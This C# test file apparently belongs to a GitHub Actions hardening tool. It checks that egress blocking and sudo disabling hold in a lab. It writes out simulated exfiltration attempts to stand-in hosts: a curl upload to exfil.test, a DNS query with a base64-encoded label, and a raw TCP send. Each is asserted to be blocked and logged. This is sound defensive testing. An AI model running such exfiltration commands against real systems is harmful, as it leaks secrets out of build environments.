using System.Text.Json;
using HardenRunner.EndToEnd.Tests.Support;
using HardenRunner.Lab;
using TestLab = HardenRunner.Lab.Lab;

namespace HardenRunner.EndToEnd.Tests;

/// <summary>
/// The GitHub Action in the lab as the runner runs it: <c>node appliance/src/main.js</c> with INPUT_* variables and
/// the runner's file-command files, a job step, then <c>node appliance/src/post.js</c> with the STATE_* variables
/// the runner hands over from the main step's GITHUB_STATE.
/// </summary>
public sealed class ActionTests
{
    private static readonly TimeSpan StepTimeout = TimeSpan.FromSeconds(120);
    private static readonly TimeSpan Wait = TimeSpan.FromSeconds(15);

    private static string Script(string name) => Path.Combine(RepositoryRoot(), "appliance", "src", name);

    private static string RepositoryRoot()
    {
        var dir = new DirectoryInfo(AppContext.BaseDirectory);
        while (dir is not null && !File.Exists(Path.Combine(dir.FullName, "HardenRunner.sln")))
        {
            dir = dir.Parent;
        }

        return dir?.FullName ?? throw new InvalidOperationException("no HardenRunner.sln above " + AppContext.BaseDirectory);
    }

    /// <summary>NAME=value and NAME&lt;&lt;DELIMITER lines of a runner file command (GITHUB_ENV, GITHUB_STATE).</summary>
    internal static Dictionary<string, string> ReadFileCommands(string path)
    {
        var result = new Dictionary<string, string>(StringComparer.Ordinal);
        var lines = File.ReadAllLines(path);
        for (var i = 0; i < lines.Length; i++)
        {
            var line = lines[i];
            var heredoc = line.IndexOf("<<", StringComparison.Ordinal);
            var eq = line.IndexOf('=', StringComparison.Ordinal);
            if (heredoc > 0 && (eq < 0 || heredoc < eq))
            {
                var delimiter = line[(heredoc + 2)..];
                var value = new List<string>();
                for (i++; i < lines.Length && lines[i] != delimiter; i++)
                {
                    value.Add(lines[i]);
                }

                result[line[..heredoc]] = string.Join('\n', value);
            }
            else if (eq > 0)
            {
                result[line[..eq]] = line[(eq + 1)..];
            }
        }

        return result;
    }

    private sealed record Job(string Dir, string Workspace, string State, string GithubEnv, string GithubState, string Summary)
    {
        public static Job Create(TestLab lab, string policy)
        {
            var dir = Path.Combine(lab.WorkDirectory, "job-" + Guid.NewGuid().ToString("N")[..8]);
            var job = new Job(dir, Path.Combine(dir, "workspace"), Path.Combine(dir, "state"), Path.Combine(dir, "github_env"), Path.Combine(dir, "github_state"), Path.Combine(dir, "step_summary.md"));
            Directory.CreateDirectory(Path.Combine(job.Workspace, ".harden"));
            File.WriteAllText(Path.Combine(job.Workspace, ".harden", "policy.yml"), policy);
            File.WriteAllText(job.GithubEnv, "");
            File.WriteAllText(job.GithubState, "");
            File.WriteAllText(job.Summary, "# build\n");
            return job;
        }

        public Dictionary<string, string> RunnerEnv() => new()
        {
            ["HARDEN_RUNNER_EVENTS_JSONL"] = "1", // the tests read the appliance's event stream (events.jsonl)
            ["GITHUB_WORKSPACE"] = Workspace,
            ["GITHUB_ENV"] = GithubEnv,
            ["GITHUB_STATE"] = GithubState,
            ["GITHUB_STEP_SUMMARY"] = Summary,
            ["RUNNER_TEMP"] = Dir,
            ["HARDEN_RUNNER_PROC_CONNECTOR_NETNS"] = ApplianceProcess.ConnectorArgs[1],
            ["INPUT_HARDEN-RUNNER-PATH"] = HardenRunnerBinary.Path,
            ["INPUT_STATE-DIR"] = State,
            ["INPUT_POLICY"] = ".harden/policy.yml",
        };

        /// <summary>The STATE_* variables the runner gives the post step: the main step's GITHUB_STATE.</summary>
        public Dictionary<string, string> PostEnv()
        {
            var env = RunnerEnv();
            foreach (var (k, v) in ReadFileCommands(GithubState))
            {
                env["STATE_" + k] = v;
            }

            return env;
        }

        public IReadOnlyList<JsonElement> Events() =>
            [.. File.ReadAllLines(Path.Combine(State, "events.jsonl")).Where(l => l.Length > 0).Select(l => JsonDocument.Parse(l).RootElement.Clone())];
    }

    [SkippableFact]
    public async Task MainJobPost_BlockModeHolds_EnvAndSummaryWritten()
    {
        LabRequirement.SkipUnlessAvailable();
        await using var lab = await TestLab.StartAsync(new LabOptions());
        var job = Job.Create(lab, EnforcementCoreTests.Policy);

        // main: step-security style inputs on top of the policy file
        var mainEnv = job.RunnerEnv();
        mainEnv["INPUT_EGRESS-POLICY"] = "block";
        mainEnv["INPUT_ALLOWED-ENDPOINTS"] = "extra.allowed.test:443\n  other.allowed.test";
        mainEnv["INPUT_DISABLE-FILE-MONITORING"] = "false";
        var main = await lab.RunInRunnerAsync("node", [Script("main.js")], StepTimeout, mainEnv);
        Assert.True(main.ExitCode == 0, main.ToString());
        Assert.Matches(@"HardenRunner insights: block mode, run \d{8}T\d{6}Z-[0-9a-f]{6}, policy .*/workspace/\.harden/policy\.yml", main.StandardOutput);

        var state = ReadFileCommands(job.GithubState);
        Assert.Equal(job.State, state["state-dir"]);
        Assert.Matches("^[0-9a-f]{48}$", state["stop-token"]);
        Assert.Contains("::add-mask::" + state["stop-token"] + "\n", main.StandardOutput, StringComparison.Ordinal);
        Assert.Equal(HardenRunnerBinary.Command, JsonSerializer.Deserialize<string[]>(state["command"])!);
        var githubEnv = ReadFileCommands(job.GithubEnv);
        Assert.Equal(job.State, githubEnv["HARDEN_RUNNER_STATE_DIR"]);
        Assert.Equal(HardenRunnerBinary.Shell, githubEnv["HARDEN_RUNNER_COMMAND"]);
        foreach (var name in new[] { "NODE_EXTRA_CA_CERTS", "SSL_CERT_FILE", "REQUESTS_CA_BUNDLE", "CURL_CA_BUNDLE", "GIT_SSL_CAINFO" })
        {
            Assert.True(githubEnv.TryGetValue(name, out var file) && File.Exists(file), $"{name} in GITHUB_ENV: {File.ReadAllText(job.GithubEnv)}");
        }

        // the job's step, with the variables the runner takes from GITHUB_ENV: block mode holds
        var stepEnv = new Dictionary<string, string>(githubEnv) { ["GITHUB_ACTION"] = "__exfil" };
        var curl = await lab.RunInRunnerAsync("curl", ["-sS", "--max-time", "5", "https://exfil.test/upload"], TimeSpan.FromSeconds(20), stepEnv);
        Assert.False(curl.Succeeded, curl.ToString());
        var dig = await EnforcementCoreTests.DigAsync(lab, "c2VjcmV0.action.exfil.test", "A");
        Assert.Contains("status: NXDOMAIN", dig.StandardOutput, StringComparison.Ordinal);
        var payload = EnforcementCoreTests.Unique("action-");
        Assert.False((await EnforcementCoreTests.SendAsync(lab, "tcp", "198.51.100.20", 9000, payload)).Succeeded);

        // post: stop, which appends the summary itself
        var post = await lab.RunInRunnerAsync("node", [Script("post.js")], StepTimeout, job.PostEnv());
        Assert.True(post.ExitCode == 0, post.ToString());
        Assert.DoesNotContain("::warning::", post.StandardOutput, StringComparison.Ordinal);

        var summary = await File.ReadAllTextAsync(job.Summary);
        Assert.StartsWith("# build\n## HardenRunner", summary, StringComparison.Ordinal);
        // the destinations table (docs/reports.md): the dropped raw TCP flow is a blocked row
        Assert.Contains(summary.Split('\n'), l => l.Contains("198.51.100.20", StringComparison.Ordinal) && l.Contains("| 9000 |", StringComparison.Ordinal) && l.Contains("blocked", StringComparison.Ordinal));
        Assert.True(await lab.HttpLog.NoneWithinAsync(r => r.Server == "exfil.test", TimeSpan.FromSeconds(1)));
        Assert.True(await lab.TcpLog.NoneWithinAsync(r => r.Preview.Contains(payload, StringComparison.Ordinal), TimeSpan.FromSeconds(1)));
        Assert.Contains(job.Events(), e => e.GetProperty("type").GetString() == "network" && e.GetProperty("host").GetString() == "exfil.test" && e.GetProperty("action").GetString() == "blocked");
        var tables = await lab.RunInRunnerAsync("nft", ["list", "tables"], StepTimeout);
        Assert.DoesNotContain("harden_runner", tables.StandardOutput, StringComparison.Ordinal);
    }

    /// <summary>
    /// disable-sudo as on a GitHub-hosted runner: the job runs as an unprivileged user with password-less sudo (in
    /// the lab's private /etc), main starts the appliance through sudo, a step's sudo then fails and is recorded, a
    /// step cannot stop the appliance without the post step's token, and post (no sudo left) stops it with the
    /// token, which restores the sudoers file byte for byte.
    /// </summary>
    [SkippableFact]
    public async Task DisableSudo_AsTheRunnerUser_SudoFailsAndIsRecorded_PostRestoresSudoersByteForByte()
    {
        LabRequirement.SkipUnlessAvailable();
        Skip.IfNot(File.Exists("/usr/bin/sudo"), "sudo is not installed (.ci/run installs it)");
        await using var lab = await TestLab.StartAsync(new LabOptions());
        var job = Job.Create(lab, EnforcementCoreTests.Policy);
        const string Sudoers = "/etc/sudoers.d/runner";
        const string Grant = "runner ALL=(ALL) NOPASSWD:ALL\n";

        // the runner's user and its sudo rule exist only in the lab's private /etc; the action is checked out as the
        // runner's, and the lab's directories are traversable (not listable) so the user reaches its job directory
        var action = Path.Combine(job.Dir, "action");
        Directory.CreateDirectory(Path.Combine(action, "src"));
        foreach (var f in Directory.GetFiles(Path.Combine(RepositoryRoot(), "appliance", "src")))
        {
            File.Copy(f, Path.Combine(action, "src", Path.GetFileName(f)));
        }

        File.Copy(Path.Combine(RepositoryRoot(), "appliance", "release.json"), Path.Combine(action, "release.json"));
        var worker = Path.Combine(job.Dir, "Runner.Worker");
        File.Copy("/bin/bash", worker); // a stand-in runner worker: the sudo detector looks below it
        File.SetUnixFileMode(lab.StateDirectory, UnixFileMode.UserRead | UnixFileMode.UserWrite | UnixFileMode.UserExecute | UnixFileMode.GroupExecute | UnixFileMode.OtherExecute);
        File.SetUnixFileMode(lab.WorkDirectory, UnixFileMode.UserRead | UnixFileMode.UserWrite | UnixFileMode.UserExecute | UnixFileMode.GroupExecute | UnixFileMode.OtherExecute);
        var setup = await lab.RunInRunnerAsync("sh", ["-ec", $"useradd -M -d {job.Dir} -s /bin/bash runner && printf '{Grant}' > {Sudoers} && chmod 0440 {Sudoers} && chown -R runner:runner {job.Dir}"], StepTimeout);
        Assert.True(setup.Succeeded, setup.ToString());
        var original = await lab.RunInRunnerAsync("base64", ["-w0", Sudoers], StepTimeout);
        Assert.True((await AsRunner(lab, worker, "sudo -n true", job.RunnerEnv())).Succeeded, "the runner user has sudo before the action");

        var mainEnv = job.RunnerEnv();
        mainEnv["INPUT_DISABLE-SUDO"] = "true";
        var main = await AsRunner(lab, worker, $"node {action}/src/main.js", mainEnv);
        Assert.True(main.ExitCode == 0, main.ToString());
        Assert.Contains("sudo disabled for 'runner' (1 rule(s) in /etc/sudoers.d/runner)", await File.ReadAllTextAsync(Path.Combine(job.State, "appliance.log")), StringComparison.Ordinal);
        var during = await lab.RunInRunnerAsync("cat", [Sudoers], StepTimeout);
        Assert.Equal("# harden-runner disabled: runner ALL=(ALL) NOPASSWD:ALL\n", during.StandardOutput);

        // job steps: sudo fails (and is recorded); stopping the appliance without the token is refused. As on a runner,
        // a step is a shell with GITHUB_ACTION set: sudo -n fails within a millisecond, often before the monitor can
        // read its environment, and its step is then the one of its nearest ancestor (the step's shell)
        var steps = await AsRunner(lab, worker, $"""
            GITHUB_ACTION=__sudo_step sh -c 'sudo -n true; e=$?; sleep 1; exit $e'; echo "sudo-exit=$?"
            GITHUB_ACTION=__stop_step {HardenRunnerBinary.Shell} stop --state-dir {job.State}; echo "stop-exit=$?"
            ls {job.State} >/dev/null 2>&1; echo "list-exit=$?"
            cat {job.State}/events.jsonl {job.State}/appliance.log >/dev/null 2>&1; echo "read-exit=$?"
            """, job.RunnerEnv());
        Assert.Contains("sudo-exit=1", steps.StandardOutput, StringComparison.Ordinal);
        Assert.Contains("stop-exit=1", steps.StandardOutput, StringComparison.Ordinal);
        Assert.Contains("refused to stop", steps.StandardError, StringComparison.Ordinal);
        Assert.Contains("list-exit=2", steps.StandardOutput, StringComparison.Ordinal); // the state directory is 0711
        Assert.Contains("read-exit=1", steps.StandardOutput, StringComparison.Ordinal); // and its files owner-only
        var status = await lab.RunInRunnerAsync(HardenRunnerBinary.FileName, HardenRunnerBinary.Args(["status", "--state-dir", job.State]), StepTimeout);
        Assert.True(status.ExitCode == 0, "still running after the refused stop: " + status);

        // a later step keeps the report without sudo: the running appliance renders its run so far for it, with the
        // command the main step exported (the post step's final report comes after every step)
        var exported = ReadFileCommands(job.GithubEnv);
        var keepEnv = new Dictionary<string, string>(job.RunnerEnv())
        {
            ["HARDEN_RUNNER_COMMAND"] = exported["HARDEN_RUNNER_COMMAND"],
            ["HARDEN_RUNNER_STATE_DIR"] = exported["HARDEN_RUNNER_STATE_DIR"],
        };
        var keep = await AsRunner(lab, worker, $"""
            $HARDEN_RUNNER_COMMAND report --live --state-dir $HARDEN_RUNNER_STATE_DIR --format html -o {job.Dir}/harden-runner.html; echo "html-exit=$?"
            $HARDEN_RUNNER_COMMAND report --live --state-dir $HARDEN_RUNNER_STATE_DIR --format json -o {job.Dir}/harden-runner.json; echo "json-exit=$?"
            stat -c owner=%U {job.Dir}/harden-runner.html
            """, keepEnv);
        Assert.True(keep.StandardOutput.Contains("html-exit=0", StringComparison.Ordinal) && keep.StandardOutput.Contains("json-exit=0", StringComparison.Ordinal), keep.ToString());
        Assert.Contains("owner=runner", keep.StandardOutput, StringComparison.Ordinal); // the step's own file, to upload
        var html = await File.ReadAllTextAsync(Path.Combine(job.Dir, "harden-runner.html"));
        Assert.StartsWith("<!DOCTYPE html>", html, StringComparison.Ordinal);
        using (var live = JsonDocument.Parse(await File.ReadAllTextAsync(Path.Combine(job.Dir, "harden-runner.json"))))
        {
            var run = live.RootElement.GetProperty("run");
            Assert.Contains(run.GetProperty("id").GetString()!, html, StringComparison.Ordinal);
            Assert.Equal(JsonValueKind.Null, run.GetProperty("endedAt").ValueKind); // still going
            Assert.Contains(live.RootElement.GetProperty("detections").EnumerateArray(), d => d.GetProperty("type").GetString() == "sudo-used");
        }

        // post: as the runner user, without sudo, with the token from the main step's state
        var post = await AsRunner(lab, worker, $"node {action}/src/post.js", job.PostEnv());
        Assert.True(post.ExitCode == 0, post.ToString());
        Assert.StartsWith("# build\n## HardenRunner", await File.ReadAllTextAsync(job.Summary), StringComparison.Ordinal);
        var restored = await lab.RunInRunnerAsync("base64", ["-w0", Sudoers], StepTimeout);
        Assert.Equal(original.StandardOutput, restored.StandardOutput);
        Assert.Equal("440 root:root", (await lab.RunInRunnerAsync("stat", ["-c", "%a %U:%G", Sudoers], StepTimeout)).StandardOutput.Trim());
        Assert.True((await AsRunner(lab, worker, "sudo -n true", job.RunnerEnv())).Succeeded, "sudo works again after post");

        var sudo = job.Events().FirstOrDefault(e => e.GetProperty("type").GetString() == "detection" && e.GetProperty("detection").GetString() == "sudo-used"
            && e.GetProperty("step").ValueKind == JsonValueKind.Object && e.GetProperty("step").GetProperty("action").GetString() == "__sudo_step");
        Assert.True(sudo.ValueKind == JsonValueKind.Object, "no sudo-used detection for the step; detections: " + string.Join('\n', job.Events().Where(e => e.GetProperty("type").GetString() == "detection").Select(e => e.GetRawText())));
    }

    /// <summary>Runs a script under the stand-in runner worker as the unprivileged runner user.</summary>
    private static Task<LabProcessResult> AsRunner(TestLab lab, string worker, string script, Dictionary<string, string> env)
    {
        env["HOME"] = Path.GetDirectoryName(worker)!;
        env["DOTNET_CLI_HOME"] = Path.GetDirectoryName(worker)!;
        return lab.RunInRunnerAsync("setpriv", ["--reuid=runner", "--regid=runner", "--init-groups", worker, "-c", script], StepTimeout, env);
    }
}
